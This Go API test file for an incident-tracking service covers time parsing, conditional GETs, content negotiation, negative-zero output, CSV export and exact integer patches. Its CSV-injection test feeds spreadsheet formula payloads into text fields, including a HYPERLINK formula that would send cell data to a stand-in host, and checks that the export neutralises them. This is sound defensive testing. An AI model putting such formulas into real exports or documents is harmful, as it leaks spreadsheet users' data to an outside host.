package api_test

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/postwatch/postwatch/domain"
)

// TestRFC3339Accepted posts incidents whose occurred_at uses every valid
// RFC 3339 spelling and checks the instant stored.
func TestRFC3339Accepted(t *testing.T) {
	e := newEnv(t)
	tests := []struct{ in, want string }{
		{"2018-09-08T05:00:00Z", "2018-09-08T05:00:00Z"},
		{"2018-09-08t05:00:00z", "2018-09-08T05:00:00Z"},
		{"2018-09-08t05:00:00Z", "2018-09-08T05:00:00Z"},
		{"2018-09-08T05:00:00z", "2018-09-08T05:00:00Z"},
		{"2018-09-08T05:00:00+01:00", "2018-09-08T04:00:00Z"},
		{"2018-09-08T05:00:00-23:59", "2018-09-09T04:59:00Z"},
		{"2018-09-08T05:00:00+23:59", "2018-09-07T05:01:00Z"},
		{"2018-09-08T05:00:00-00:00", "2018-09-08T05:00:00Z"},
		{"2018-09-08T05:00:00.123456789Z", "2018-09-08T05:00:00.123456Z"},
		{"2018-09-08T05:00:00.5+05:30", "2018-09-07T23:30:00.5Z"},
		// Leap seconds: stored as the following second, as PostgreSQL does.
		{"2016-12-31T23:59:60Z", "2017-01-01T00:00:00Z"},
		{"2016-12-31t23:59:60.25z", "2017-01-01T00:00:00.25Z"},
		{"2017-01-01T05:29:60+05:30", "2017-01-01T00:00:00Z"},
		{"2016-02-29T00:00:00Z", "2016-02-29T00:00:00Z"},
		{"2018-09-08", "2018-09-08T00:00:00Z"},
	}
	for _, tc := range tests {
		t.Run(tc.in, func(t *testing.T) {
			r := e.in(t).do("POST", incidentItems, incidentJSON(44.36, 33.31, map[string]any{"occurred_at": tc.in}), domain.RoleOfficer).wantStatus(http.StatusCreated)
			if got := dig(r.json(), "properties", "occurred_at"); got != tc.want {
				t.Errorf("occurred_at %v, want %s", got, tc.want)
			}
		})
	}
}

// TestTimesEverywhere holds every time field of every route to the same
// parser: the valid spellings pass, out-of-range years and offsets are a
// 400 naming the field, and nothing out of range is stored, so the lists
// that show these records keep rendering.
func TestTimesEverywhere(t *testing.T) {
	e := newEnv(t)
	fac := strconv.FormatInt(e.createFacility(47.78, 30.51, "Basrah"), 10)
	for _, id := range []string{"qf", "kh"} {
		e.do("POST", "/actors", map[string]any{"id": id, "name": id}, domain.RoleOfficer).wantStatus(http.StatusCreated)
	}
	postures := "/collections/facilities/items/" + fac + "/postures"
	posture := func(at string) map[string]any { return map[string]any{"posture": "elevated", "effective_at": at} }
	relation := func(field, at string) map[string]any {
		return map[string]any{"kind": "directs", "target_id": "kh", field: at}
	}
	token := func(at string) map[string]any {
		return map[string]any{"name": "t", "role": "analyst", "expires_at": at}
	}
	var steps []step
	for _, bad := range []string{"0000-01-01T00:00:00+01:00", "0001-01-01T00:30:00+01:00", "9999-12-31T23:30:00-01:00",
		"10000-01-01T00:00:00Z", "2018-09-08T05:00:00+00:60", "2018-09-08T05:00:00-24:00", "2018-09-08T25:00:00Z",
		"2018-09-08T05:00:00", "2018-13-01T00:00:00Z", "2018-09-08T05:00:60Z"} {
		steps = append(steps,
			step{name: "posture effective_at " + bad, method: "POST", url: postures, body: posture(bad), role: domain.RoleOfficer, status: 400, field: "effective_at"},
			step{name: "relation valid_from " + bad, method: "POST", url: "/actors/qf/relations", body: relation("valid_from", bad), role: domain.RoleOfficer, status: 400, field: "valid_from"},
			step{name: "relation valid_to " + bad, method: "POST", url: "/actors/qf/relations", body: relation("valid_to", bad), role: domain.RoleOfficer, status: 400, field: "valid_to"},
			step{name: "token expires_at " + bad, method: "POST", url: "/tokens", body: token(bad), role: domain.RoleAdmin, status: 400, field: "expires_at"},
			step{name: "datetime " + bad, method: "GET", url: incidentItems + "?datetime=" + urlQuery(bad), role: domain.RoleAnalyst, status: 400, field: "datetime"},
		)
	}
	// Future times, so that a token may expire then.
	for _, good := range []string{"2098-09-08t05:00:00z", "2098-12-31T23:59:60Z", "2098-09-08T05:00:00+23:59"} {
		steps = append(steps,
			step{name: "posture effective_at " + good, method: "POST", url: postures, body: posture(good), role: domain.RoleOfficer, status: 201},
			step{name: "relation valid_from " + good, method: "POST", url: "/actors/qf/relations", body: relation("valid_from", good), role: domain.RoleOfficer, status: 201},
			step{name: "token expires_at " + good, method: "POST", url: "/tokens", body: token(good), role: domain.RoleAdmin, status: 201},
			step{name: "datetime " + good, method: "GET", url: incidentItems + "?datetime=" + urlQuery(good) + "/..", role: domain.RoleAnalyst, status: 200},
		)
	}
	steps = append(steps,
		step{name: "postures still render", method: "GET", url: postures, role: domain.RoleAnalyst, status: 200, check: func(t *testing.T, r *response) {
			if n := len(r.json()["postures"].([]any)); n != 3 {
				t.Errorf("%d postures, want the 3 valid ones", n)
			}
		}},
		step{name: "relations still render", method: "GET", url: "/actors/qf/relations", role: domain.RoleAnalyst, status: 200, check: func(t *testing.T, r *response) {
			if n := len(r.json()["relations"].([]any)); n != 3 {
				t.Errorf("%d relations, want the 3 valid ones", n)
			}
		}},
		step{name: "tokens still render", method: "GET", url: "/tokens", role: domain.RoleAdmin, status: 200},
		step{name: "leap second stored as the next second", method: "GET", url: incidentItems + "?datetime=2016-12-31T23:59:60Z", role: domain.RoleAnalyst, status: 200, check: func(t *testing.T, r *response) {
			if !strings.Contains(r.Body.String(), "datetime=2016-12-31T23%3A59%3A60Z") {
				t.Errorf("self link lost the datetime: %s", r.Body.String())
			}
		}},
	)
	e.runSteps(t, nil, steps)
}

func urlQuery(s string) string { return strings.NewReplacer("+", "%2B", ":", "%3A").Replace(s) }

// TestConditionalGet checks If-None-Match on every route that serves an
// ETag: a match answers 304 with the ETag and no body.
func TestConditionalGet(t *testing.T) {
	e := newEnv(t)
	inc := incidentItems + "/" + strconv.FormatInt(e.createIncident(44.36, 33.31, nil), 10)
	fac := "/collections/facilities/items/" + strconv.FormatInt(e.createFacility(47.78, 30.51, "Basrah"), 10)
	e.do("POST", "/actors", map[string]any{"id": "kh", "name": "Kata'ib Hezbollah"}, domain.RoleOfficer).wantStatus(http.StatusCreated)
	for _, url := range []string{inc, fac, "/actors/kh"} {
		for _, tc := range []struct {
			name, inm string
			want      int
		}{
			{"its ETag", `"1"`, http.StatusNotModified},
			{"its ETag, weak", `W/"1"`, http.StatusNotModified},
			{"star", `*`, http.StatusNotModified},
			{"a list holding it", `"7", "1"`, http.StatusNotModified},
			{"a list holding it weakly", `"7",W/"1"`, http.StatusNotModified},
			{"another version", `"2"`, http.StatusOK},
			{"a list without it", `"2", W/"3"`, http.StatusOK},
			{"unquoted", `1`, http.StatusOK},
		} {
			for _, method := range []string{"GET", "HEAD"} {
				t.Run(method+" "+url+" "+tc.name, func(t *testing.T) {
					r := e.in(t).do(method, url, nil, domain.RoleAnalyst, "If-None-Match", tc.inm).wantStatus(tc.want)
					r.wantHeader("ETag", `"1"`)
					if tc.want == http.StatusNotModified && r.Body.Len() != 0 {
						t.Errorf("304 with a body: %q", r.Body.String())
					}
				})
			}
		}
	}
	t.Run("after a change the old tag no longer matches", func(t *testing.T) {
		e := e.in(t)
		e.do("PATCH", inc, `{"properties":{"severity":5}}`, domain.RoleOfficer, "Content-Type", "application/merge-patch+json").wantStatus(http.StatusOK)
		e.do("GET", inc, nil, domain.RoleAnalyst, "If-None-Match", `"1"`).wantStatus(http.StatusOK).wantHeader("ETag", `"2"`)
	})
}

// TestContentNegotiation checks Accept per RFC 9110 §12.5.1 on routes
// that offer JSON and HTML, and f= winning over it.
// wantNegotiated GETs url as an analyst with Accept and checks what comes
// back: a Content-Type beginning with want, or, when want is a status
// ("406"), a problem with that status naming field.
func wantNegotiated(e *env, url, accept, want, field string) {
	e.t.Helper()
	r := e.do("GET", url, nil, domain.RoleAnalyst, "Accept", accept)
	if status, err := strconv.Atoi(want); err == nil {
		r.wantProblem(status, field)
		return
	}
	r.wantStatus(http.StatusOK)
	if ct := r.Header().Get("Content-Type"); !strings.HasPrefix(ct, want) {
		e.t.Errorf("Content-Type %q, want %s", ct, want)
	}
}

func TestContentNegotiation(t *testing.T) {
	e := newEnv(t)
	id := strconv.FormatInt(e.createIncident(44.36, 33.31, nil), 10)
	const html, json, geo = "text/html", "application/json", "application/geo+json"
	tests := []struct {
		url, accept string
		want        string // Content-Type prefix, or a status as text
	}{
		{"/", "", json},
		{"/", "text/html", html},
		{"/", "TEXT/HTML", html},
		{"/", "Text/Html; Charset=UTF-8", html},
		{"/", "text/html;q=0, */*", json},
		{"/", "text/html;q=0.0, */*;q=0.1", json},
		{"/", "text/*", html},
		{"/", "text/*;q=0.5, application/json;q=0.4", html},
		{"/", "text/html;q=0.4, application/json;q=0.5", json},
		{"/", "application/json;q=0.4, text/html;q=0.5", html},
		{"/", "*/*;q=0.8, text/html", html},
		{"/", "text/html, application/json", json}, // a tie goes to JSON
		{"/", "*/*", json},
		{"/", "application/xml", json}, // names nothing offered: the header is disregarded
		{"/", "text/html;q=2", json},   // not a qvalue: that range is ignored
		{"/", "text/html;level=1;q=0, text/html;q=1", html},
		{"/", "text/html;q=0, application/json;q=0", "406"},
		{"/", "*/*;q=0", "406"},
		{"/?f=html", "application/json", html},
		{"/?f=json", "text/html", json},
		{"/collections", "text/html;q=0.9, application/json;q=0.1", html},
		{incidentItems, "text/html;q=0, */*", geo},
		{incidentItems, "application/GEO+JSON", geo},
		{incidentItems, "text/csv", "text/csv"},
		{incidentItems, "text/csv;q=0.1, application/geo+json", geo},
		{incidentItems + "/" + id, "text/html;q=0, */*", geo},
		{incidentItems + "/" + id, "text/html", html},
		// q=0 is never sent: the JSON a resource falls back to is refused
		// (406), or labelled with the JSON type the client does take.
		{"/collections", "application/json;q=0", "406"},
		{"/conformance", "application/json;q=0, text/csv", "406"},
		{incidentItems, "application/geo+json;q=0", "406"},
		{incidentItems, "application/geo+json;q=0, application/json", json},
		{incidentItems, "application/geo+json;q=0, */*;q=0.5", json},
		{incidentItems, "application/geo+json;q=0, text/csv;q=0.5", "text/csv"},
		{incidentItems + "/" + id, "application/geo+json;q=0, application/json", json},
		{incidentItems + "/" + id, "application/geo+json;q=0, application/json;q=0", "406"},
		{incidentItems + "/" + id, "application/json", geo}, // GeoJSON is JSON
		// Resources with one format refuse it when Accept does.
		{"/actors", "application/json;q=0, text/html", "406"},
		{"/actors", "text/html", json}, // names nothing offered: disregarded
		{"/stats/incidents", "*/*;q=0", "406"},
		{"/openapi.json", "application/vnd.oai.openapi+json;q=0", "406"},
		{"/openapi.json", "application/json;q=0", "application/vnd.oai.openapi+json"},
		{"/collections/incidents/queryables", "application/schema+json;q=0", "406"},
	}
	for _, tc := range tests {
		t.Run(tc.url+" Accept: "+tc.accept, func(t *testing.T) {
			wantNegotiated(e.in(t), tc.url, tc.accept, tc.want, "Accept")
		})
	}
}

// negativeZero finds -0 (or -0.0…) written as a number: a JSON value or a
// CSV cell, so never inside an id or a word.
var negativeZero = regexp.MustCompile(`(?m)(^|[:\[,])\s*-0(\.0*)?\s*([,\]}\r]|$)`)

// TestNoNegativeZero posts coordinates that round to zero from below and
// checks that no format writes -0.
func TestNoNegativeZero(t *testing.T) {
	e := newEnv(t)
	for _, pt := range [][2]float64{{-0.00000001, -0.00000004}, {-0.00000004999, 0.00000001}, {0.00000001, -0.00000002}} {
		id := strconv.FormatInt(e.createIncident(pt[0], pt[1], map[string]any{"title": "near null island"}), 10)
		fac := strconv.FormatInt(e.createFacility(pt[0], pt[1], "Null Island"), 10)
		for _, url := range []string{
			incidentItems + "/" + id, incidentItems + "?f=json", incidentItems + "?f=csv", incidentItems + "?f=stix",
			incidentItems + "/" + id + "/history", incidentItems + "?near=0,0&radius=10",
			"/collections/facilities/items/" + fac, "/collections/facilities/items?f=csv",
			incidentItems + "?f=html", incidentItems + "/" + id + "?f=html", "/collections/facilities/items?f=html",
		} {
			t.Run(url, func(t *testing.T) {
				r := e.in(t).do("GET", url, nil, domain.RoleAnalyst).wantStatus(http.StatusOK)
				if m := negativeZero.FindString(r.Body.String()); m != "" {
					t.Errorf("%q in %s", m, r.Body.String())
				}
			})
		}
	}
}

// TestCSVInjection gives every text column of the incident and facility
// CSVs a value a spreadsheet would run as a formula, and checks each cell
// comes out neutralised while numeric columns stay numbers.
func TestCSVInjection(t *testing.T) {
	e := newEnv(t)
	// A leading tab or carriage return cannot be stored (one-line fields
	// refuse control characters); csv_internal_test.go covers them.
	payloads := []string{`=HYPERLINK("http://example.invalid/?x="&A1,"click")`, "+1+1", "-2+3", "@SUM(A1:A2)", "=1", "-"}
	for _, p := range payloads {
		e.createIncident(-44.36, -33.31, map[string]any{"title": p, "external_id": p})
		f := facilityJSON(-47.78, -30.51, p)
		f["properties"].(map[string]any)["city"] = p
		e.do("POST", "/collections/facilities/items", f, domain.RoleAdmin).wantStatus(http.StatusCreated)
	}
	for _, tc := range []struct {
		url     string
		text    []string // header names of text columns
		numeric []string
	}{
		{incidentItems + "?f=csv&limit=100", []string{"title", "external_id", "type", "status"}, []string{"id", "lon", "lat", "severity", "killed", "injured"}},
		{"/collections/facilities/items?f=csv&limit=100", []string{"name", "city", "kind"}, []string{"id", "lon", "lat", "alert_radius_m"}},
	} {
		t.Run(tc.url, func(t *testing.T) {
			r := e.in(t).do("GET", tc.url, nil, domain.RoleAnalyst).wantStatus(http.StatusOK)
			rows, err := csv.NewReader(strings.NewReader(r.Body.String())).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			col := map[string]int{}
			for i, h := range rows[0] {
				col[h] = i
			}
			if len(rows) < 2 {
				t.Fatalf("no rows: %s", r.Body.String())
			}
			for _, row := range rows[1:] {
				for _, name := range tc.text {
					if cell := row[col[name]]; cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("%s cell %q would run as a formula", name, cell)
					}
				}
				for _, name := range tc.numeric {
					if _, err := strconv.ParseFloat(row[col[name]], 64); err != nil {
						t.Errorf("%s cell %q is not a number", name, row[col[name]])
					}
				}
			}
			if !strings.Contains(r.Body.String(), `'=HYPERLINK(""http://example.invalid/?x=""&A1,""click"")`) {
				t.Errorf("the formula title is not kept as text: %s", r.Body.String())
			}
			if !strings.Contains(r.Body.String(), "-44.36") && !strings.Contains(r.Body.String(), "-47.78") {
				t.Errorf("negative longitudes were changed: %s", r.Body.String())
			}
		})
	}
}

// TestCRSAccepted checks that a crs member naming CRS84, in any of its
// spellings and places, is taken.
func TestCRSAccepted(t *testing.T) {
	e := newEnv(t)
	for _, name := range []string{"urn:ogc:def:crs:OGC:1.3:CRS84", "http://www.opengis.net/def/crs/OGC/1.3/CRS84", "urn:ogc:def:crs:OGC::CRS84", "URN:OGC:DEF:CRS:OGC:1.3:CRS84"} {
		t.Run(name, func(t *testing.T) {
			e.in(t).do("POST", incidentItems, withCRS(incidentJSON(44.36, 33.31, nil), name), domain.RoleOfficer).wantStatus(http.StatusCreated)
			g := map[string]any{"type": "Point", "coordinates": []float64{44.36, 33.31}, "crs": map[string]any{"type": "name", "properties": map[string]any{"name": name}}}
			e.in(t).do("POST", incidentItems, withGeometry(g), domain.RoleOfficer).wantStatus(http.StatusCreated)
		})
	}
}

// TestPatchKeepsNumbersExact patches integers beyond 2^53 and out of range:
// each is stored exactly or refused, never rounded.
func TestPatchKeepsNumbersExact(t *testing.T) {
	e := newEnv(t)
	url := incidentItems + "/" + strconv.FormatInt(e.createIncident(44.36, 33.31, nil), 10)
	mp := []string{"Content-Type", "application/merge-patch+json"}
	e.runSteps(t, nil, []step{
		{name: "killed 2^53+1 is a 400, not rounded to 2^53", method: "PATCH", url: url, body: `{"properties":{"casualties":{"killed":9007199254740993}}}`,
			role: domain.RoleOfficer, headers: mp, status: 400, field: "properties.casualties.killed"},
		{name: "killed at its maximum is kept exactly", method: "PATCH", url: url, body: `{"properties":{"casualties":{"killed":1000000}}}`,
			role: domain.RoleOfficer, headers: mp, status: 200, check: func(t *testing.T, r *response) {
				if !strings.Contains(r.Body.String(), `"killed":1000000`) {
					t.Errorf("killed changed: %s", r.Body.String())
				}
			}},
		{name: "killed beyond int64 is a 400", method: "PATCH", url: url, body: `{"properties":{"casualties":{"killed":99999999999999999999}}}`,
			role: domain.RoleOfficer, headers: mp, status: 400, field: "properties.casualties.killed"},
		{name: "killed 1e3 is not an integer literal", method: "PATCH", url: url, body: `{"properties":{"casualties":{"injured":1.5}}}`,
			role: domain.RoleOfficer, headers: mp, status: 400, field: "properties.casualties.injured"},
		{name: "a duplicate key in the patch is a 400", method: "PATCH", url: url, body: `{"properties":{"severity":2,"severity":4}}`,
			role: domain.RoleOfficer, headers: mp, status: 400, field: "properties.severity"},
		{name: "a lone surrogate in the patch is a 400", method: "PATCH", url: url, body: `{"properties":{"title":"\udbff"}}`,
			role: domain.RoleOfficer, headers: mp, status: 400, field: "properties.title"},
		{name: "an actor patch with a duplicate key is a 400", method: "PATCH", url: "/actors/nobody", body: `{"name":"a","name":"b"}`,
			role: domain.RoleOfficer, headers: mp, status: 404},
		{name: "the incident is still at version 2", method: "GET", url: url, role: domain.RoleAnalyst, status: 200, check: func(t *testing.T, r *response) {
			r.wantHeader("ETag", `"2"`)
			var f struct {
				Properties struct {
					Casualties struct{ Killed json.Number }
				}
			}
			if err := json.Unmarshal(r.Body.Bytes(), &f); err != nil || f.Properties.Casualties.Killed != "1000000" {
				t.Errorf("killed %v (%v)", f.Properties.Casualties.Killed, err)
			}
		}},
	})
}
